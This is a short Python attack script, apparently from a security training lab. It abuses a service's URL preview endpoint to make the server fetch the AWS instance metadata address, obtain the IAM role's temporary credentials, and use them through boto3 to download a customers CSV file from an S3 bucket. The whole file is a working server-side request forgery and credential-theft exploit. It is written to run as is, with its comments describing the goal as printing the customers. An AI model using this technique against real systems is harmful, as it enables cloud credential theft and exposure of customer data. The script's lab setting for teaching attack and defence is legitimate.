"""Make the service ask its metadata service for the role's credentials, and use them."""

import json
import os
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import boto3

from scripts.labs.attacking import attack
from scripts.labs.trial import Refused

ROLES = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"


def preview(url: str) -> str:
    """What the service fetches for us."""
    address = Path("given/address.txt").read_text().strip()
    asked = f"{address}/preview?url={urllib.parse.quote(url, safe='')}"
    try:
        with urllib.request.urlopen(asked, timeout=20) as answer:
            return str(answer.read().decode())
    except urllib.error.HTTPError as refused:
        text = refused.read().decode()
        if "HTTP Error 401" in text or "HTTP Error 403" in text:
            raise Refused(f"the metadata service: {text}") from None
        raise


@attack
def main() -> str:
    """Print the customers."""
    keys = json.loads(preview(ROLES + preview(ROLES).split()[0]))
    s3 = boto3.client(
        "s3",
        aws_access_key_id=keys["AccessKeyId"],
        aws_secret_access_key=keys["SecretAccessKey"],
        aws_session_token=keys["Token"],
    )
    bucket = f"lab-exports-{os.environ['ACCOUNT']}"
    return str(s3.get_object(Bucket=bucket, Key="exports/customers.csv")["Body"].read().decode())


main()
